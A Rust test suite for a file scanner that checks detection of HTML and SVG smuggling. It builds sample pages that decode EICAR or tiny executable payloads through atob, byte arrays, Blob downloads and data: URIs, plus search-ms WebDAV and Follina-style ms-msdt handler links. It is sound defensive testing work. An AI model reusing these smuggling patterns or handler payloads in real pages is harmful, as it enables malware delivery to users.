//! Script smuggling: payloads that a page's JavaScript assembles from
//! literals (`atob` of concatenated strings, byte arrays, `fromCharCode`)
//! are decoded, without running anything, and scanned as what the browser
//! would hand the user; the `<script>` elements of HTML and SVG are scanned
//! as JavaScript; links to the handlers that open shares or start programs
//! (`search-ms:`, `ms-msdt:`) are blocked. Ordinary pages stay clean and
//! do not explode into objects.

use crate::util::*;
use xferscan::Verdict;

/// Base64 text split into `"...." + "...."` literals of `n` characters.
fn split_literals(b64: &[u8], n: usize) -> String {
    let text: String = String::from_utf8(b64.to_vec()).unwrap().replace("\r\n", "");
    text.as_bytes()
        .chunks(n)
        .map(|c| format!("\"{}\"", std::str::from_utf8(c).unwrap()))
        .collect::<Vec<_>>()
        .join(" +\n  ")
}

fn numbers(b: &[u8]) -> String {
    b.iter()
        .map(|v| v.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

fn html(script: &str) -> Vec<u8> {
    format!(
        "<!DOCTYPE html><html><head><title>Invoice</title></head><body>\
         <p>Your document is downloading.</p><script>\n{script}\n</script></body></html>"
    )
    .into_bytes()
}

const SAVE: &str = "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n\
    var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n\
    a.download = 'invoice.pdf'; a.click();";

#[test]
fn atob_of_concatenated_literals() {
    let js = format!(
        "var s = atob({});\nvar bytes = new Uint8Array(s.length);\n{SAVE}",
        split_literals(&b64(&tiny_pe(false)), 12)
    );
    let r = scan("invoice.html", html(&js));
    assert!(has_key(&r, "type.executable"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    let js = format!("var s = atob({});", split_literals(&b64(&eicar()), 8));
    let r = scan("invoice.html", html(&js));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    let (path, _) = deepest(&r);
    assert!(path.to_string().contains("<smuggled atob #1"), "{path}");
}

/// A script file smuggled as text: the string handed to `new Blob([...])`
/// (escaped, joined with `+`, reversed) is the file the browser saves.
#[test]
fn the_text_of_a_blob_is_the_file() {
    let e = String::from_utf8(eicar()).unwrap();
    let escaped: String = e.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let (a, b) = e.split_at(30);
    let reversed: String = e.chars().rev().collect::<String>().replace('\\', "\\\\");
    let percent: String = e.bytes().map(|b| format!("%{b:02X}")).collect();
    let percent_u: String = e.bytes().map(|b| format!("%u{b:04x}")).collect();
    for blob in [
        format!("new Blob([\"{escaped}\"], {{type: 'text/plain'}})"),
        format!("new Blob(['{}' + '{}'])", a.replace('\\', "\\\\"), b),
        format!("new File([\"{reversed}\".split('').reverse().join('')], 'a.js')"),
        format!("new Blob([decodeURIComponent('{percent}')])"),
        format!("new Blob([unescape(\"{percent_u}\")])"),
    ] {
        let js = format!(
            "var blob = {blob};\nvar a = document.createElement('a');\na.href = URL.createObjectURL(blob); a.download = 'invoice.js'; a.click();"
        );
        let r = scan("invoice.html", html(&js));
        assert!(found_eicar(&r), "{blob}: {:?}", keys(&r));
    }
    // A page that builds a small text blob of its own stays clean.
    let js = "var b = new Blob(['<p>' + 'hello' + '</p>'], {type: 'text/html'});";
    assert_clean(&scan("page.html", html(js)));
}

#[test]
fn atob_of_variables_built_up_from_literals() {
    let text = String::from_utf8(b64(&eicar()))
        .unwrap()
        .replace("\r\n", "");
    let (a, b) = text.split_at(40);
    let js = format!("var p1 = \"{a}\";\nvar p = p1;\np += '{b}';\nvar s = window.atob(p);");
    let r = scan("x.html", html(&js));
    assert!(found_eicar(&r), "{:?}", keys(&r));
}

#[test]
fn byte_values_in_a_typed_array() {
    let js = format!(
        "var bytes = new Uint8Array([{}]);\n{SAVE}",
        numbers(&tiny_pe(false))
    );
    let r = scan("invoice.html", html(&js));
    assert!(has_key(&r, "type.executable"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn char_codes() {
    let js = format!(
        "var s = String.fromCharCode({});\ndocument.write(s);",
        numbers(&eicar())
    );
    let r = scan("x.html", html(&js));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    let js = format!(
        "var s = String.fromCharCode.apply(null, [{}]);",
        numbers(&eicar())
    );
    let r = scan("x.html", html(&js));
    assert!(found_eicar(&r), "{:?}", keys(&r));
}

#[test]
fn a_long_base64_or_hex_literal_in_a_script_file() {
    let text = String::from_utf8(b64(&tiny_pe(false)))
        .unwrap()
        .replace("\r\n", "");
    let js = format!("var payload = \"{text}\";\nfunction go() {{ return payload; }}\n");
    // A script file by content: the name says .js, which the type policy
    // blocks anyway; the payload is found all the same.
    let r = scan("lib.js", js.into_bytes());
    assert!(has_key(&r, "type.executable"), "{:?}", keys(&r));
    let hex: String = eicar().iter().map(|b| format!("{b:02x}")).collect();
    let r = scan("x.html", html(&format!("var h = '{hex}';")));
    assert!(found_eicar(&r), "{:?}", keys(&r));
}

#[test]
fn an_svg_with_a_script_is_flagged_and_its_payload_decoded() {
    let svg = format!(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\
         <rect width=\"10\" height=\"10\"/><script type=\"application/ecmascript\"><![CDATA[\n\
         var s = atob({});\n]]></script></svg>",
        split_literals(&b64(&tiny_pe(false)), 16)
    );
    let r = scan("logo.svg", svg.into_bytes());
    assert!(has_key(&r, "document.svg.script"), "{:?}", keys(&r));
    assert!(has_key(&r, "type.executable"), "{:?}", keys(&r));
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://example.com/'\"><rect/></svg>";
    let r = scan("logo.svg", svg.as_bytes().to_vec());
    assert!(has_key(&r, "document.svg.script"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn a_plain_svg_is_clean() {
    let svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\
        <title>on the button</title><style>.a{fill:red}</style><rect class=\"a\" width=\"10\" height=\"10\"/></svg>";
    assert_clean(&scan("icon.svg", svg.as_bytes().to_vec()));
}

#[test]
fn a_page_with_an_inline_svg_icon_is_a_page_not_an_svg_image() {
    // As Sphinx writes every page of Python's documentation: a search icon
    // drawn inline, and the page's own scripts.
    let page = "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\" />\
        <script src=\"_static/doctools.js\"></script><script>DOCUMENTATION_OPTIONS.URL_ROOT = '.';</script>\
        </head><body><form class=\"search\"><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" \
        height=\"20\" viewBox=\"0 0 24 24\" class=\"search-icon\"><path d=\"M0 0h24v24H0z\"/></svg>\
        <input type=\"text\" name=\"q\" onfocus=\"this.select()\"/></form></body></html>";
    assert_clean(&scan("about.html", page.as_bytes().to_vec()));
    // An SVG whose root comes after a comment longer than 4 KiB still runs
    // its handler when opened.
    let svg = format!(
        "<?xml version=\"1.0\"?>\n<!-- {} -->\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
         onload=\"location='https://example.com/'\"><rect/></svg>",
        "drawn by hand ".repeat(400)
    );
    let r = scan("logo.svg", svg.into_bytes());
    assert!(has_key(&r, "document.svg.script"), "{:?}", keys(&r));
}

#[test]
fn a_page_whose_head_reads_as_prose_or_comment_is_still_searched() {
    // Browsers run these as pages; text detection reads 4 KiB of prose or
    // of comment first. Under any name: the name is the sender's.
    let js = format!("var s = atob({});", split_literals(&b64(&eicar()), 8));
    let uri = format!(
        "<a download=\"a.com\" href=\"data:application/octet-stream;base64,{}\">x</a>",
        String::from_utf8(b64(&eicar()))
            .unwrap()
            .replace("\r\n", "")
    );
    let prose = "Your document is ready. Please open it in your browser.\n".repeat(100);
    let comment = format!("<!-- {} -->", "x".repeat(6000));
    for name in ["invoice.html", "notes.txt"] {
        for (head, page) in [
            (&prose, html(&js)),
            (&comment, html(&js)),
            (&prose, uri.clone().into_bytes()),
            (&comment, format!("<p>{uri}</p>").into_bytes()),
        ] {
            let mut data = head.clone().into_bytes();
            data.extend(page);
            let r = scan(name, data);
            assert!(found_eicar(&r), "{name}: {:?}", keys(&r));
        }
    }
    // Controls: prose that compares with <, and notes that quote a script.
    let mut notes = prose.clone();
    notes.push_str("Remember that a < b and b > c.\n");
    assert_clean(&scan("notes.txt", notes.clone().into_bytes()));
    notes.push_str("The snippet is <script>document.title = 'Hello';</script> as before.\n");
    assert_clean(&scan("notes.txt", notes.into_bytes()));
}

#[test]
fn a_page_in_utf16_is_searched_in_utf8() {
    let uri = format!(
        "<html><body><a download=\"a.com\" href=\"data:application/octet-stream;base64,{}\">x</a></body></html>",
        String::from_utf8(b64(&eicar()))
            .unwrap()
            .replace("\r\n", "")
    );
    let js = String::from_utf8(html(&format!(
        "var s = atob({});",
        split_literals(&b64(&eicar()), 8)
    )))
    .unwrap();
    for page in [uri, js] {
        let le: Vec<u8> = page.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let be: Vec<u8> = page.encode_utf16().flat_map(u16::to_be_bytes).collect();
        for (label, data) in [
            ("LE with BOM", [&[0xff, 0xfe][..], &le].concat()),
            ("LE without BOM", le.clone()),
            ("BE with BOM", [&[0xfe, 0xff][..], &be].concat()),
            ("BE without BOM", be.clone()),
        ] {
            let r = scan("invoice.html", data);
            assert!(found_eicar(&r), "{label}: {:?}", keys(&r));
        }
    }
    // Controls: a registry export and notes, as Windows saves them.
    for text in [
        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n\"Theme\"=\"dark\"\r\n",
        "Meeting notes\r\n- budget review on Monday\r\n- <b>bold</b> ideas welcome\r\n",
    ] {
        let data: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        assert_clean(&scan("notes.txt", data));
        let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert_clean(&scan("notes.txt", be));
    }
}

/// A page runs code outside its `<script>` elements: event handlers,
/// `javascript:` URLs (percent escapes decoded before they run) and the
/// pages of `srcdoc` attributes (character references decoded), in HTML
/// and in an SVG's `foreignObject`.
#[test]
fn code_outside_script_elements_is_read_as_script() {
    let text = String::from_utf8(b64(&eicar()))
        .unwrap()
        .replace("\r\n", "");
    let pieces: Vec<String> = text
        .as_bytes()
        .chunks(30)
        .map(|c| format!("'{}'", std::str::from_utf8(c).unwrap()))
        .collect();
    let code = format!(
        "var a=document.createElement('a');a.href='data:application/octet-stream;base64,'+{};\
         a.download='invoice.com';a.click()",
        pieces.join("+")
    );
    let percent: String = code.replace(' ', "%20").replace('=', "%3D");
    let script_page = format!(
        "<script>var s=atob({});var b=new Uint8Array(s.length);\
         for(var i=0;i<s.length;i++)b[i]=s.charCodeAt(i);\
         var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));\
         a.download='invoice.com';a.click();</script>",
        split_literals(&b64(&eicar()), 20)
    );
    let referenced: String = script_page
        .chars()
        .map(|c| format!("&#{};", c as u32))
        .collect();
    for (name, page) in [
        (
            "handler.html",
            format!("<html><body><img src=x onerror=\"{code}\"></body></html>"),
        ),
        (
            "link.html",
            format!("<html><body><a href=\"  JavaScript:{percent}\">open</a></body></html>"),
        ),
        (
            "frame.html",
            format!("<html><body><iframe srcdoc=\"{referenced}\"></iframe></body></html>"),
        ),
        (
            "image.svg",
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"9\" height=\"9\">\
                 <iframe xmlns=\"http://www.w3.org/1999/xhtml\" srcdoc=\"{referenced}\"/>\
                 </foreignObject></svg>"
            ),
        ),
    ] {
        let r = scan(name, page.into_bytes());
        assert!(found_eicar(&r), "{name}: {:?}", keys(&r));
    }
    // Control: ordinary handlers and links run nothing smuggled.
    let page = "<html><body><button onclick=\"toggle(this); return false;\">Menu</button>\
                <a href=\"javascript:void(0)\" onmouseover=\"hint('Save the page')\">?</a>\
                <iframe srcdoc=\"&lt;p&gt;Hello&lt;/p&gt;\"></iframe></body></html>";
    let r = scan("menu.html", page.as_bytes().to_vec());
    assert_clean(&r);
    assert!(r.objects.len() <= 3, "{} objects", r.objects.len());
}

#[test]
fn an_ordinary_page_is_clean_and_small() {
    let mut page = String::from("<!DOCTYPE html><html><head><title>Shop</title>\n");
    for i in 0..10 {
        page.push_str(&format!(
            "<script>\n(function($){{ 'use strict';\n  var items{i} = [1, 2, 3, 4, 5];\n  \
             $(document).ready(function(){{ $('.btn-{i}').on('click', function(e){{ e.preventDefault();\n  \
             $.ajax({{url: '/api/cart', data: {{id: {i}}}, success: function(r){{ $('#n').text(r.count); }}}});\n  \
             }}); }});\n  var key = \"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=\";\n\
             }})(jQuery);\n</script>\n"
        ));
    }
    page.push_str("</head><body><h1>Welcome</h1><p>Buy things.</p></body></html>");
    let r = scan("shop.html", page.into_bytes());
    assert_clean(&r);
    assert!(r.objects.len() <= 11, "{} objects", r.objects.len());
}

#[test]
fn a_small_image_in_a_script_is_clean() {
    let gif = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==";
    let png = String::from_utf8(b64(&tiny_png()))
        .unwrap()
        .replace("\r\n", "");
    let js = format!(
        "var pixel = '{gif}';\nvar logo = atob(\"{png}\");\nimg.src = 'data:image/png;base64,' + btoa(logo);"
    );
    assert_clean(&scan("page.html", html(&js)));
}

#[test]
fn json_with_a_long_base64_picture_is_clean() {
    let mut png = tiny_png();
    png.extend(std::iter::repeat_n(0u8, 600));
    let text = String::from_utf8(b64(&png)).unwrap().replace("\r\n", "");
    let json = format!("{{\"name\": \"avatar.png\", \"data\": \"{text}\"}}");
    assert_clean(&scan("avatar.json", json.into_bytes()));
}

/// A `data:` URI a script writes into a link, its comma (or any character)
/// hidden behind a JavaScript escape, or built by `+` from variables: read
/// once the script's literals are decoded, as the page reader reads one.
#[test]
fn a_data_uri_that_a_script_assembles() {
    let text = String::from_utf8(b64(&eicar()))
        .unwrap()
        .replace("\r\n", "");
    let pieces: String = text
        .as_bytes()
        .chunks(text.len().div_ceil(3))
        .enumerate()
        .map(|(i, c)| format!("var x{i} = '{}';\n", std::str::from_utf8(c).unwrap()))
        .collect();
    for script in [
        format!(
            "var a = document.createElement('a');\na.href = \"data:application/octet-stream;base64\\x2c{text}\";\na.click();"
        ),
        format!(
            "var a = document.createElement('a');\na.href = 'data:application/octet-stream;base64\\u002c{text}';\na.click();"
        ),
        format!(
            "var p = \"{text}\";\nvar u = \"data:application/octet-stream;\" + \"base64,\" + p;\nlocation = u;"
        ),
        // A tab inside `data:`, which the URL parser removes.
        format!("location = `da\\tta:application/octet-stream;base64\\x2c{text}`;"),
        // Pieces of under 64 characters, put together by a template and
        // by `.concat`.
        format!(
            "{pieces}\nlocation = `data:application/octet-stream;base64,${{x0}}${{ x1 }}${{x2}}`;"
        ),
        format!("{pieces}\nlocation = 'data:application/octet-stream;base64,'.concat(x0, x1, x2);"),
    ] {
        let r = scan("invoice.html", html(&script));
        assert!(found_eicar(&r), "{script}: {:?}", keys(&r));
    }
    // A script file on its own, the URI as it is.
    let js = format!(
        "var a = document.createElement('a');\na.href = \"data:application/octet-stream;base64,{text}\";\n"
    );
    let r = scan("lib.js", js.into_bytes());
    assert!(found_eicar(&r), "{:?}", keys(&r));
}

#[test]
fn a_script_with_ordinary_urls_has_no_payload() {
    let r = scan(
        "app.html",
        html(
            "var api = 'https://example.com/v1/items?ids=1,2,3';\n\
              var icon = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';\n\
              fetch(api).then(function (r) { return r.json(); });",
        ),
    );
    assert_clean(&r);
    // The page and its script element; the pixel is too small to list.
    assert_eq!(
        r.objects.len(),
        2,
        "{:?}",
        r.objects.iter().map(|o| o.path.clone()).collect::<Vec<_>>()
    );
}

/// HTML attachments that send the browser to a handler that opens a share
/// or starts a program: `search-ms:` with a WebDAV location (the remote
/// folder dressed as search results), Follina's `ms-msdt:`, a meta
/// refresh, a character reference for the colon, a page behind prose.
#[test]
fn pages_that_navigate_to_program_handlers_are_blocked() {
    let search = r"search-ms:query=Invoice&crumb=location:\\203.0.113.7@SSL\DavWWWRoot\docs&displayname=Downloads";
    let pages = [
        format!("<html><body><script>window.location.href = '{search}';</script></body></html>"),
        format!("<html><head><meta http-equiv=\"refresh\" content=\"0; url={search}\"></head></html>"),
        "<html><body><a href=\"ms-msdt&#58;/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=$(iex)&quot;\">open</a></body></html>".to_owned(),
        format!("{}<a href='{search}'>open</a>", "Dear customer, please find the invoice below.\n".repeat(120)),
        "<html><script>location = 'ms-officecmd:' + JSON.stringify(p);</script></html>".to_owned(),
    ];
    for page in pages {
        let r = scan("invoice.html", page.clone().into_bytes());
        assert!(
            has_key(&r, "document.external_link.handler"),
            "{page:.100}: {:?}",
            keys(&r)
        );
        assert_eq!(r.verdict, Verdict::Malicious);
    }
    // Controls: links to pages, mail and script, and prose that names the
    // schemes.
    let page = "<html><body><p>Windows has search-ms: and ms-msdt: protocols.</p>\
        <label>Search: <input name=q></label><a href=\"javascript:void(0)\">x</a>\
        <a href=\"https://example.com/search?q=1\">s</a><a href=\"mailto:a@example.com\">m</a></body></html>";
    assert_clean(&scan("page.html", page.as_bytes().to_vec()));
}

/// A mail whose HTML body is sent as it is (7bit or 8bit, not encoded) is
/// read as a page all the same.
#[test]
fn an_unencoded_html_mail_body_is_read_as_a_page() {
    let js = format!(
        "var s = atob({});\nvar bytes = new Uint8Array(s.length);\n{SAVE}",
        split_literals(&b64(&tiny_pe(false)), 12)
    );
    let page = html(&js);
    for encoding in ["7bit", "8bit", ""] {
        let mut headers = "Content-Type: text/html; charset=utf-8".to_owned();
        if !encoding.is_empty() {
            headers += &format!("\r\nContent-Transfer-Encoding: {encoding}");
        }
        let m = message(&[
            ("Content-Type: text/plain", b"See the invoice."),
            (&headers, &page),
        ]);
        let r = scan("invoice.eml", m);
        assert!(has_key(&r, "type.executable"), "{encoding}: {:?}", keys(&r));
        let m = message(&[(&headers, b"<html><body><p>Hello</p></body></html>")]);
        assert_clean(&scan("hello.eml", m));
    }
}

/// A page that turns text into bytes, wraps them in a Blob and has the
/// browser save it: however the payload is transformed on the way (here
/// reversed, which nothing here undoes), the shape is flagged
/// (`HTML_Smuggling_Blob_Download`); an escaped copy in an `<iframe
/// srcdoc>` too.
#[test]
fn a_script_that_saves_a_blob_it_builds_is_flagged() {
    let b64: String = String::from_utf8(b64(&tiny_pe(false)))
        .unwrap()
        .replace("\r\n", "")
        .chars()
        .rev()
        .collect();
    let script = format!(
        "var s = atob('{b64}'.split('').reverse().join(''));\n\
         var b = new Uint8Array(s.length);\n\
         for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);\n\
         var a = document.createElement('a');\n\
         a.href = URL.createObjectURL(new Blob([b], {{type: 'application/octet-stream'}}));\n\
         a.download = 'invoice.exe';\n\
         document.body.appendChild(a);\n\
         a.click();\n"
    );
    let r = scan("invoice.html", html(&script));
    assert!(r.matched("HTML_Smuggling_Blob_Download"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Clean);
    let escaped = format!("<script>{script}</script>")
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;");
    let page =
        format!("<!DOCTYPE html><html><body><iframe srcdoc=\"{escaped}\"></iframe></body></html>");
    let r = scan("invoice.html", page.into_bytes());
    assert!(r.matched("HTML_Smuggling_Blob_Download"), "{:?}", keys(&r));
    // Control: a page that exports a table it shows as CSV, from text.
    let export = "var csv = rows.map(function (r) { return r.join(','); }).join('\\n');\n\
         var a = document.createElement('a');\n\
         a.href = URL.createObjectURL(new Blob([csv], {type: 'text/csv'}));\n\
         a.download = 'table.csv';\n\
         a.click();\n";
    let r = scan("report.html", html(export));
    assert!(!r.matched("HTML_Smuggling_Blob_Download"), "{:?}", keys(&r));
    assert_clean(&r);
}

/// Payloads disguised by the string methods that undo them in the page:
/// reversed, strewn with junk that `.replace` removes, split into an array
/// that `.join` puts together. Each is decoded as the browser builds it;
/// a page that uses the same methods on its text stays clean.
#[test]
fn payloads_undisguised_by_string_methods() {
    let b64: String = String::from_utf8(b64(&eicar()))
        .unwrap()
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    let reversed: String = b64.chars().rev().collect();
    let (a, b) = b64.split_at(30);
    for expr in [
        format!("'{reversed}'.split('').reverse().join('')"),
        format!("'{}'.replace(/#/g, '')", b64.replace('A', "A#")),
        format!("['{a}', '{b}'].join('')"),
        format!("'{}'.replaceAll('~', 'A')", b64.replace('A', "~")),
    ] {
        let page = html(&format!(
            "var bytes = Uint8Array.from(atob({expr}), c => c.charCodeAt(0));\n{SAVE}"
        ));
        let r = scan("invoice.html", page);
        assert!(found_eicar(&r), "{expr}: {:?}", keys(&r));
    }
    let ordinary = html(
        "var title = 'Weekly report'.split('').reverse().join('');\n\
         var slug = 'weekly report 2024'.replace(/ /g, '-');\n\
         var path = ['docs', 'reports', slug].join('/');\n\
         document.title = title + path;",
    );
    let r = scan("page.html", ordinary);
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
}
